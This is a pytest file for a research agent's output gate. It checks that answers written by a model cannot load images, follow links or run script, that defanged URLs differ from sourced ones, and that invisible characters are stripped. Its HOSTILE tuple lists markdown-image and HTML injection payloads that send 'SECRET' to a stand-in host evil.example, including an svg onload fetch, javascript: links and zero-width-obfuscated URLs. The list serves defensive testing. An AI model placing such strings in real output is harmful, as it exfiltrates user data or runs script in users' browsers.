"""What a model wrote is shown, and neither fetched, nor followed, nor hidden."""

import pytest
from markdown_it import MarkdownIt

from research_agent.answering.output_gate import gated, gated_draft, seen
from research_agent.types import Chunk, Hit
from research_agent.types.claims import Claim
from research_agent.types.evidence import Evidence
from research_agent.types.verification import Draft

EVIL = "https://evil.example/p.png?d=SECRET"
HOSTILE = (
    f"![x]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f"![a [b] c]({EVIL})",
    f"[x](<{EVIL}>)",
    f"[x\\]({EVIL})",
    f"![x\\\\]({EVIL})",
    f"![x][1]\n\n[1]: {EVIL}",
    f"[c1]: {EVIL}\n\nIt is so [c1].",
    f"[c1]:\n{EVIL}\n\nIt is so [c1].",
    "[x](//evil.example/p)",
    "[c1]: //evil.example/p\n\nSee [c1].",
    "[x](javascript:alert(1))",
    "[x](data:text/html,hello)",
    f"<{EVIL}>",
    "<a@evil.example>",
    f"<img src={EVIL}>",
    f'<img src="{EVIL}"',
    f"<svg/onload=fetch('{EVIL}')>",
    f"<a\nhref='{EVIL}'>here</a>",
    f"<!-- {EVIL} -->",
    "<script>alert(1)</script>",
    f"ht\u200btps://evil.example/ and !\u2060[x]({EVIL})",
    f"` {EVIL} ![x]({EVIL})",
    f"> ![x]({EVIL})",
    f"| a |\n|---|\n| ![x]({EVIL}) |",
    f"\u0645\u06cc{EVIL}",
    f"https://a.example/x{EVIL}",
    "ftp\U0001c794://evil.example/x",
    "[r]:x![a](//evil.example/p)",
    "![a][b](//evil.example/p)",
    "[a](x[b](//evil.example/p)",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_fetched_or_followed(text: str) -> None:
    shown = gated(f"It is 5. {text}")
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(shown)

    for tag in ("<img", "<a ", "<a\n", "<script", "<svg", "<!--"):
        assert tag not in html
        assert tag not in shown
    assert "://evil" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "ML-KEM-768 has 1184 bytes (see Table 2), ratio 3:1, at 10:30.",
        "Use `List<int>` or a[i](x), where a < b and c > d.",
        "Write [link](https://a.example/x) or <https://a.example/x>.",
        "Fetch https://a.example/x, or www.a.example.",
        "The module std::vector and key: value stay.",
        "可以在这里找到。\n\nIt is naïve — 5 µm.",
        "می‌خواهم",
    ],
)
def test_what_the_chunk_says_stays(text: str) -> None:
    """Plain text needs no chunk."""
    plain = "In [c1], x < 5 and y > 3: see std::map and 10:30 (a/b)."

    assert text == gated(text, [f"Before. {text} After."])
    assert plain == gated(plain)


def test_a_part_of_an_address_is_another_address() -> None:
    source = ["See https://a.example.org/x and https://b.example."]

    assert "https://a.example.org/x" == gated("https://a.example.org/x", source)
    assert "https[:]//a[.]example.org" != gated("https://a.example", source)
    assert "https[:]//a[.]example" == gated("https://a.example", source)
    assert "https[:]//b[.]example/?d=1" == gated("https://b.example/?d=1", source)
    assert "[x] (https://b.example)" == gated("[x](https://b.example)", source)


def test_unseen_characters_are_removed() -> None:
    hidden = (
        "\u200b\u2060\ufeff\u202e\u2066\u00ad\u180e\U000e0041\U000e007f\ufe01\U000e0101\x1b\x07"
    )
    hidden += "\u200d\u200c\u3164\u2800\u034f\ue000"

    assert "ab" == seen("".join(f"{c}" for c in f"a{hidden}b"))
    assert "a\tb\nc" == seen("a\tb\nc")


def test_each_sentence_is_held_against_its_own_chunks() -> None:
    evidence = [
        Evidence("c1", Hit(Chunk("1", "a", "See https://a.example."))),
        Evidence("c2", Hit(Chunk("2", "b", "Nothing."))),
    ]
    claims = tuple(Claim("See https://a.example.", keys) for keys in (("c1",), ("c2",), ()))
    shown = gated_draft(Draft(claims=claims), evidence).claims

    broken = "See https[:]//a[.]example."
    assert ["See https://a.example.", broken, broken] == [claim.text for claim in shown]
